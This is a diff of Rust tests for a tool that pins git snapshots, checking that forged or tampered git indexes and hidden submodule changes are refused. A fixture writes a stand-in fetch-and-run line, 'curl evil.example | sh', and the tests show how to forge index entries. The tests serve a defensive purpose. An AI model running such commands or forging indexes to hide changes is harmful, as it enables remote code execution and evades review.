@@ -6,33 +6,10 @@ use run_loop::domain::id::RoundNumber;
 use run_loop::domain::oid::Oid;
 use run_loop::git::snapshot::pin;
 
+use crate::support::folders::{age, exchange, hide};
 use crate::support::reference::reference;
 use crate::support::repo::{self, Repo};
 use crate::support::source::Source;
-
-fn bytes_of(id: &str) -> Vec<u8> {
-    let digits = id.as_bytes().chunks(2);
-    digits
-        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
-        .collect()
-}
-
-/// Puts one id in another's place in the index.
-fn exchange(repo: &Repo, old: &str, new: &str) {
-    let file = repo.root().join(".git/index");
-    let mut index = std::fs::read(&file).unwrap();
-    let (old, new) = (bytes_of(old), bytes_of(new));
-    let places: Vec<usize> = (0..index.len() - old.len())
-        .filter(|at| index[*at..].starts_with(&old))
-        .collect();
-    let [at] = *places else {
-        unreachable!("{places:?}")
-    };
-    index[at..at + new.len()].copy_from_slice(&new);
-    let zeros = index.len() - new.len();
-    index[zeros..].fill(0);
-    std::fs::write(&file, index).unwrap();
-}
 
 /// Git lists an entry by the end of its name and compares it with the disk by the length that its flags
 /// say: under the one name it is told to overlook it, under the other we would have it look again.
@@ -79,28 +56,22 @@ fn forged_after(options: &[&str], prepare: impl Fn(&Repo)) -> Repo {
     let folders = ["HEAD^{tree}", "HEAD:src", "HEAD:src/deep"];
     let harmless = folders.map(|name| repo.git(&["rev-parse", name]));
     repo.write("src/deep/run.sh", "curl evil.example | sh\n");
-    // Older than the index: what git doubts it enters again, with its folders.
-    for path in ["README.md", "src/lib.rs", "src/deep/run.sh"] {
-        let file = std::fs::File::open(repo.root().join(path)).unwrap();
-        let old = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
-        file.set_modified(old).unwrap();
-    }
     repo.commit("harmful");
+    age(repo.root());
     prepare(&repo);
     repo.git(&[&["update-index"], options].concat());
     let harmful = folders.map(|name| repo.git(&["rev-parse", name]));
     // The folders' ids stand there once they were computed.
     assert_eq!(repo.git(&["write-tree"]), harmful[0]);
-    for (old, new) in harmful.iter().zip(&harmless) {
-        exchange(&repo, old, new);
-    }
+    exchange(repo.root(), harmful.iter().zip(&harmless));
     repo
 }
 
 #[test]
 fn folders_of_other_entries_are_not_what_is_pinned() {
-    for options in [&["--index-version=2"], &["--index-version=4"]] {
-        let repo = forged(options);
+    // Git alone reads an index in two halves, and writes it whole for us.
+    for options in ["--index-version=2", "--index-version=4", "--split-index"] {
+        let repo = forged(&[options]);
         let index = || std::fs::read(repo.root().join(".git/index")).unwrap();
         let before = index();
         let source = Source::of(&repo, "main");
@@ -113,14 +84,45 @@ fn folders_of_other_entries_are_not_what_is_pinned() {
     }
 }
 
-/// Git alone reads an index in two halves: what it makes of it is compared with its entries.
+/// Nothing that git says of it is known to be what its entries are.
 #[test]
-fn folders_of_other_entries_in_an_index_of_two_halves_are_refused() {
-    let repo = forged(&["--split-index"]);
+fn an_index_that_git_itself_would_not_write_is_refused() {
+    let repo = forged(&["--index-version=2"]);
+    let file = repo.root().join(".git/index");
+    let mut index = std::fs::read(&file).unwrap();
+    let mode = index[12..]
+        .windows(4)
+        .position(|it| it == [0, 0, 0o201, 0o244]);
+    let mode = 12 + mode.unwrap();
+    index[mode..mode + 4].copy_from_slice(&0o100_664_u32.to_be_bytes());
+    std::fs::write(&file, index).unwrap();
     let failure = Source::of(&repo, "main").try_pin(1).unwrap_err();
     assert_eq!(failure.code, Code::SnapshotRefused);
     let message = failure.message;
-    assert!(message.contains("is not what its entries are"), "{message}");
+    assert!(message.contains("no index that git writes"), "{message}");
+}
+
+/// A submodule is held by its commit alone: what its index hides would be in no review.
+#[test]
+fn what_is_staged_in_a_submodule_behind_the_folders_of_its_commit_is_refused() {
+    for options in [&[][..], &["--split-index"]] {
+        let (module, repo) = (Repo::new(), Repo::new());
+        let url = module.root().to_str().unwrap();
+        repo.git(&["submodule", "--quiet", "add", url, "module"]);
+        repo.commit("module");
+        let source = Source::of(&repo, "HEAD~1");
+        let pin = source.pin();
+        let inside = repo.root().join("module");
+        hide(&inside, "src", "lib.rs", "// hidden\n", options);
+        for failure in [
+            source.try_pin(1).unwrap_err(),
+            source.try_measure(&pin).unwrap_err(),
+        ] {
+            assert!(failure.message.contains("src/lib.rs"), "{failure}");
+        }
+        let failure = source.try_pin(1).unwrap_err();
+        assert_eq!(failure.code, Code::DirtySubmodule, "{options:?}");
+    }
 }
 
 /// A sparse one is made whole by git, which computes its folders then.
